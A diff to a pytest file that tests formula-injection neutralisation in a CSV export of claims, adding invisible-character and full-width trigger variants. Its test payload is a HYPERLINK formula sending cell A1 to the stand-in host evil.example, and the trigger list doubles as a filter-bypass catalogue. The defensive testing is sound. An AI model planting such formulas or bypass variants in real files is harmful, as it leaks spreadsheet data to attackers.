@@ -256,7 +256,16 @@ def test_claims_csv_grades_and_numbers() -> None:
     assert {row["source_reliability"] for row in rows.values()} == {"B"}
 
 
-@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+FORMULA_STARTS = [
+    *("=", "+", "-", "@", "\t", "\r"),
+    # Spaces and invisible characters a spreadsheet may skip before the trigger.
+    *(" =", "  +", "\u00a0-", "\u2003@", "\u3000=", "\u200b=", "\ufeff+", "\u200e-", " \t"),
+    # Full-width and small forms, which some spreadsheets read as the ASCII ones.
+    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u00a0\uff1d", "\u200b\uff20"),
+]
+
+
+@pytest.mark.parametrize("trigger", FORMULA_STARTS)
 def test_claims_csv_neutralises_formulas(trigger: str) -> None:
     payload = trigger + 'HYPERLINK("https://evil.example/?"&A1,"click")'
     subject = make_dossier(
@@ -275,6 +284,12 @@ def test_claims_csv_neutralises_formulas(trigger: str) -> None:
     assert row["value"] == "'-3–-1"
     assert (row["min"], row["max"]) == ("-3", "-1")
     assert row["claim_id"] == "formula", "harmless cells stay as they are"
+
+
+@pytest.mark.parametrize("cell", [" 84 people", "\u00a0Kerman", "a=b", "\u200bword", "84-90"])
+def test_claims_csv_leaves_cells_without_a_leading_trigger_alone(cell: str) -> None:
+    subject = make_dossier(make_source(make_claim("plain", NumberRange(1, 1), paraphrase=cell)))
+    assert csv_rows(claims_csv(subject))[0]["paraphrase"] == cell
 
 
 def test_claims_csv_keeps_a_carriage_return_inside_its_cell() -> None:
